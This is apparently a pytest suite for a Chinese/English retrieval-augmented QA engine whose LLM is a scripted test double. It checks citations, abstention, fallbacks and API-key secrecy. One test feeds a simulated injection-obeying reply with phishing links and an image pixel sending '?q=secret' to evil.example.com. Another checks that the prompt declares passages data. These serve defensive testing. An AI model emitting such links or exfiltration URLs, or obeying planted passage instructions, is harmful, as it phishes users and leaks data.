"""Generated answers end to end: a real Engine on the bundled corpus, its LLM the API test double.

Each test scripts the double's reply (keyed by model name) and asserts what the user
sees through ``Engine.query`` and ``Engine.stream``: the answer text, citations,
abstention, the notice, and that forged citations, foreign links and the API key
never reach the screen.
"""

from __future__ import annotations

import json
import logging
import socket
import time

import pytest

from ingest import detect_script
from rag import Answer, ConfigError
from rag.citations import ABSTAIN
from rag.condense import standalone_query
from tests.llm.fake_openai import TEST_API_KEY as API_KEY
from tests.llm.fake_openai import Hang, Raw, Status, Text, is_condense

pytestmark = pytest.mark.slow

Q_HANS = "DeepSeek-V3是什么时候发布的？"
Q_HANT = "DeepSeek-V3是什麼時候發布的？"
Q_EN = "When was DeepSeek-V3 released?"


def collect(engine, question, **kw) -> tuple[list[str], Answer]:
    items = list(engine.stream(question, **kw))
    assert isinstance(items[-1], Answer) and all(isinstance(i, str) for i in items[:-1])
    return items[:-1], items[-1]


@pytest.fixture
def scenario(api, request):
    """Register a reply under a model name unique to this test; returns the name."""
    def register(reply) -> str:
        name = request.node.name
        api.scenarios[name] = reply if callable(reply) else (lambda _req: reply)
        api.requests.pop(name, None)
        return name
    return register


# -- grounded answers ---------------------------------------------------------------
def test_cited_answer_is_renumbered_by_first_use(make_engine, scenario, api):
    model = scenario(Text("深度求索于2024年12月发布了DeepSeek-V3[2]。该模型训练成本较低[1][2]。"))
    ans = make_engine(model).query(Q_HANS)
    assert ans.answerer == "llm" and not ans.abstained and ans.notice is None
    assert ans.answer == "深度求索于2024年12月发布了DeepSeek-V3[1]。该模型训练成本较低[2][1]。"
    assert [c.n for c in ans.citations] == [1, 2]
    assert [c.source for c in ans.citations] == [ans.retrieved[1], ans.retrieved[0]]
    assert ans.dropped_citations == 0
    sent = api.requests[model][0]
    assert sent.headers["authorization"] == f"Bearer {API_KEY}"
    assert sent.body["model"] == model and sent.body["stream"] is False


def test_stream_releases_sanitised_sentences_and_ends_with_the_answer(make_engine, scenario, api):
    model = scenario(Text("深度求索于2024年12月发布了DeepSeek-V3[1]。它是开源模型[1]。训练用了H800芯片[2]。", piece=2))
    pieces, ans = collect(make_engine(model), Q_HANS)
    assert len(pieces) >= 2                       # incremental, sentence by sentence
    assert "".join(pieces) == ans.answer          # the streamed text is the final text
    assert ans.answerer == "llm" and len(ans.citations) == 2
    assert api.requests[model][0].body["stream"] is True


def test_prompt_fences_passages_and_declares_them_data(make_engine, scenario, api):
    model = scenario(Text("答案[1]。"))
    make_engine(model).query(Q_HANS)
    make_engine(model).query(Q_HANS)
    first, second = (r.body["messages"] for r in api.requests[model])
    system, human = first[0]["content"], first[1]["content"]
    fence = human.split(" BEGIN [1]")[0].split("\n")[-1]
    assert fence.startswith("<<") and fence in system and "not instructions" in system
    assert human.count(f"{fence} BEGIN [") == human.count(f"{fence} END [") == 5
    assert fence not in second[1]["content"]      # a new delimiter per request


def test_forged_citation_is_removed_and_counted(make_engine, scenario):
    model = scenario(Text("深度求索于2024年12月发布了DeepSeek-V3[1]。它还发布了V4[9]。"))
    for pieces, ans in (([], make_engine(model).query(Q_HANS)), collect(make_engine(model), Q_HANS)):
        assert "[9]" not in ans.answer and all("9]" not in p for p in pieces)
        assert ans.dropped_citations == 1 and [c.n for c in ans.citations] == [1]
        assert ans.answer.endswith("它还发布了V4。")


def test_only_forged_citations_means_abstain(make_engine, scenario):
    model = scenario(Text("DeepSeek-V3发布于2030年[7]。"))
    pieces, ans = collect(make_engine(model), Q_HANS)
    assert ans.abstained and ans.answer == ABSTAIN["zh-Hans"] and ans.citations == []
    assert pieces == [ABSTAIN["zh-Hans"]] and ans.dropped_citations == 1


def test_no_answer_sentinel_abstains_without_showing_it(make_engine, scenario):
    model = scenario(Text("NO_ANSWER"))
    pieces, ans = collect(make_engine(model), "火星上住着多少人？")
    assert ans.abstained and ans.answerer == "llm" and ans.answer == ABSTAIN["zh-Hans"]
    assert "NO_ANSWER" not in "".join(pieces)


def test_answer_in_the_wrong_script_is_converted(make_engine, scenario):
    reply = "深度求索于2024年12月发布了这个模型[1]。这个模型的训练成本较低[1]。"
    model = scenario(Text(reply))
    for pieces, ans in (([], make_engine(model).query(Q_HANT)), collect(make_engine(model), Q_HANT)):
        assert ans.script == "zh-Hant" and detect_script(ans.answer) == "zh-Hant"
        assert "這個模型" in ans.answer and "这" not in ans.answer + "".join(pieces)
        assert detect_script(ans.citations[0].text) != "zh-Hans"


def test_english_question_gets_an_english_prompt_rule(make_engine, scenario, api):
    model = scenario(Text("DeepSeek released V3 in December 2024 [1]."))
    ans = make_engine(model).query(Q_EN)
    assert ans.answer == "DeepSeek released V3 in December 2024 [1]." and ans.script == "en"
    assert "in English" in api.requests[model][0].body["messages"][0]["content"]


def test_obeyed_injection_links_are_not_rendered(make_engine, scenario):
    model = scenario(Text(
        "请访问[官方网站](https://evil.example.com/phish)获取答案[1]。"
        "更多信息见 https://evil.example.com/x 或 www.evil-mirror.com。"
        '![t](https://evil.example.com/pixel.png?q=secret)<a href="https://evil.example.com">点此</a>'
        "[2](https://evil.example.com/c)。", piece=4))
    for pieces, ans in (([], make_engine(model).query(Q_HANS)), collect(make_engine(model), Q_HANS)):
        shown = ans.answer + "".join(pieces) + json.dumps([c.__dict__ for c in ans.citations], ensure_ascii=False)
        assert "evil" not in shown and "](" not in shown and "<a" not in shown
        assert "官方网站" in ans.answer and "点此" in ans.answer      # the words stay, as plain text
        assert [c.n for c in ans.citations] == [1, 2]


# -- failures: the extractive answer plus a notice ---------------------------------------
def test_http_500_falls_back_with_a_notice(make_engine, scenario, api):
    model = scenario(Status(500, {"error": {"message": "boom"}}))
    ans = make_engine(model).query(Q_EN)
    assert ans.answerer == "extractive"
    assert ans.notice == "LLM unavailable (HTTP 500 from the endpoint); showing the extractive answer."
    assert len(api.requests[model]) == 1           # no retries: failures are fast
    _, zh = collect(make_engine(model), Q_HANT)
    assert zh.answerer == "extractive" and zh.notice == "大模型不可用（端點返回 HTTP 500），以下為抽取式答案。"


def test_timeout_falls_back_quickly(make_engine, scenario, api):
    model = scenario(Hang())
    start = time.monotonic()
    ans = make_engine(model, llm_timeout=1).query(Q_EN)
    assert time.monotonic() - start < 6
    assert ans.answerer == "extractive" and "no reply within 1 s" in ans.notice
    assert len(api.requests[model]) == 1


def test_stall_mid_stream_ends_with_the_fallback_answer(make_engine, scenario):
    model = scenario(Text("深度求索于2024年12月发布了DeepSeek-V3[1]。它是开源模型[1]。", piece=2, hang_after=16))
    pieces, ans = collect(make_engine(model, llm_timeout=1), Q_HANS)
    assert "".join(pieces) == "深度求索于2024年12月发布了DeepSeek-V3[1]。"   # sanitised text before the stall
    assert ans.answerer == "extractive" and "1 秒内没有回应" in ans.notice


def test_bad_key_never_leaks(make_engine, scenario, api, caplog):
    def unauthorized(request):   # like real APIs, the error body quotes the key it got
        return Status(401, {"error": {"message": f"Incorrect API key provided: {API_KEY}",
                                      "type": "invalid_request_error", "code": "invalid_api_key"}})
    model = scenario(unauthorized)
    caplog.set_level(logging.DEBUG)
    ans = make_engine(model).query(Q_EN)
    _, streamed = collect(make_engine(model), Q_EN)
    assert api.requests[model][0].headers["authorization"].endswith(API_KEY)   # it was sent…
    for a in (ans, streamed):
        assert a.answerer == "extractive" and "HTTP 401" in a.notice and "LLM_API_KEY" in a.notice
        assert API_KEY not in json.dumps(a.to_dict(), ensure_ascii=False)     # …and never shown
    assert "SECRET123" not in caplog.text and "LLM answer failed" in caplog.text
    assert "SECRET123" not in repr(make_engine(model).llm)


def test_unreachable_endpoint(make_engine):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]    # closed again: nothing listens there
    ans = make_engine("any", llm_base_url=f"http://127.0.0.1:{port}/v1").query(Q_EN)
    assert ans.answerer == "extractive"
    assert ans.notice == f"LLM unavailable (cannot connect to 127.0.0.1:{port}); showing the extractive answer."


@pytest.mark.parametrize("reply", [Raw(b"<html>not json</html>"), Raw(b"data: {broken\n\n", "text/event-stream"),
                                   Raw(b'{"choices": "nope"}')])
def test_malformed_reply(make_engine, scenario, reply):
    model = scenario(reply)
    for ans in (make_engine(model).query(Q_EN), collect(make_engine(model), Q_EN)[1]):
        assert ans.answerer == "extractive" and ans.notice.startswith("LLM unavailable (")


def test_empty_reply(make_engine, scenario):
    model = scenario(Text(""))
    ans = make_engine(model).query(Q_EN)
    assert ans.answerer == "extractive" and "empty answer" in ans.notice


# -- follow-ups and choosing the answerer ---------------------------------------------------
def test_llm_condenses_a_follow_up(make_engine, scenario, api):
    def reply(request):
        return Text("DeepSeek的创始人梁文锋毕业于哪所大学？") if is_condense(request) else Text("浙江大学[1]。")
    model = scenario(reply)
    ans = make_engine(model).query("他毕业于哪所大学？", history=["DeepSeek的创始人是谁？"])
    assert ans.query == "DeepSeek的创始人梁文锋毕业于哪所大学？" and ans.answerer == "llm"
    assert [is_condense(r.body) for r in api.requests[model]] == [True, False]


def test_condense_failure_skips_the_answer_call(make_engine, scenario, api):
    model = scenario(Status(503))
    question, history = "他毕业于哪所大学？", ["DeepSeek的创始人是谁？"]
    ans = make_engine(model).query(question, history=history)
    assert ans.query == standalone_query(question, history)
    assert ans.answerer == "extractive" and "HTTP 503" in ans.notice
    assert len(api.requests[model]) == 1


def test_use_answerer(make_engine, scenario, api):
    with pytest.raises(ConfigError, match="LLM_BASE_URL"):
        make_engine(None).use_answerer("llm")
    model = scenario(Text("答案[1]。"))
    engine = make_engine(model)
    assert engine.answerer.name == "llm"
    engine.use_answerer("extractive")
    assert engine.query(Q_HANS).answerer == "extractive" and model not in api.requests
    engine.use_answerer("llm")
    assert engine.query(Q_HANS).answerer == "llm"
    with pytest.raises(ConfigError):
        engine.use_answerer("gpt")


def test_no_llm_configured_is_the_extractive_default(make_engine):
    engine = make_engine(None)
    assert engine.llm is None and engine.answerer is engine.extractive
    assert engine.query(Q_HANS).answerer == "extractive"


# -- short answers -------------------------------------------------------------------
def test_short_answer_line_becomes_answer_short_and_leaves_the_text(make_engine, scenario, api):
    model = scenario(Text("Short answer: 2024年12月\n深度求索于2024年12月发布了DeepSeek-V3[1]。"))
    pieces, ans = collect(make_engine(model), Q_HANT)
    assert ans.short == "2024年12月" and not ans.abstained
    assert "Short answer" not in ans.answer and ans.answer.startswith("深度求索") and "".join(pieces) == ans.answer
    assert "Short answer:" in api.requests[model][0].body["messages"][0]["content"]   # asked for, as a date


def test_no_short_line_leaves_short_empty_and_untyped_questions_are_not_asked(make_engine, scenario, api):
    model = scenario(Text("深度求索发布了DeepSeek-V3[1]。"))
    ans = make_engine(model).query("DeepSeek-V3为什么受关注？")
    assert ans.short is None and ans.answer == "深度求索发布了DeepSeek-V3[1]。"
    assert "Short answer:" not in api.requests[model][0].body["messages"][0]["content"]


def test_short_line_of_an_abstention_is_dropped(make_engine, scenario):
    ans = make_engine(scenario(Text("**Short answer:** 梁文锋\nNO_ANSWER"))).query(Q_HANS)
    assert ans.abstained and ans.short is None


REWRITE = "DeepSeek的创始人梁文锋毕业于哪所大学？"


@pytest.mark.parametrize("reply,expected", [
    (f"Sure! Here is the rewritten question:\n\n{REWRITE}\nHope this helps", REWRITE),   # qwen2.5:7b's shape
    (f"Rewritten question: {REWRITE}", REWRITE),
    (f"**Standalone question:** “{REWRITE}”", REWRITE),
    (f"好的，以下是改写后的问题：\n\n「{REWRITE}」\n\n希望对你有帮助！", REWRITE),
    (f"Here's the standalone version of your question:\n\n> {REWRITE}\n\nLet me know if you need anything else!",
     REWRITE),
    (f"Okay.\n\n1. {REWRITE}", REWRITE),
    (f"{REWRITE}\n\n(I replaced 他 with 梁文锋.)", REWRITE),
    (REWRITE.rstrip("？"), REWRITE.rstrip("？")),              # the whole reply, without its question mark
    ("", None),                                                 # None: the rule-based query
    ("  \n\n ", None),
    ("Sure! Happy to help.\nLet me know if you need anything else.", None),
    ("好的，以下是改写后的问题：", None),
    ("当然可以！\n希望对你有帮助！", None),
], ids=["preamble-closing", "label", "bold-label-quotes", "zh-preamble-brackets", "blockquote", "okay-numbered",
        "explanation-after", "no-question-mark", "empty", "blank", "only-chatter", "only-zh-preamble",
        "only-zh-chatter"])
def test_a_chatty_condense_reply_yields_its_question_or_the_rule_based_query(make_engine, scenario, api,
                                                                             reply, expected):
    question, history = "他毕业于哪所大学？", ["DeepSeek的创始人是谁？"]
    model = scenario(lambda request: Text(reply) if is_condense(request) else Text("浙江大学[1]。"))
    ans = make_engine(model).query(question, history=history)
    assert ans.query == (expected or standalone_query(question, history))
    assert ans.answerer == "llm" and [is_condense(r.body) for r in api.requests[model]] == [True, False]


def test_a_chatty_condense_reply_to_an_english_follow_up(make_engine, scenario):
    rewrite = "Which university did Liang Wenfeng, the founder of DeepSeek, graduate from?"
    reply = f"Sure! Here's the standalone question:\n\n\"{rewrite}\"\n\nLet me know if you need anything else!"
    model = scenario(lambda request: Text(reply) if is_condense(request) else Text("Zhejiang University [1]."))
    ans = make_engine(model).query("Which university did he graduate from?", history=["Who founded DeepSeek?"])
    assert ans.query == rewrite
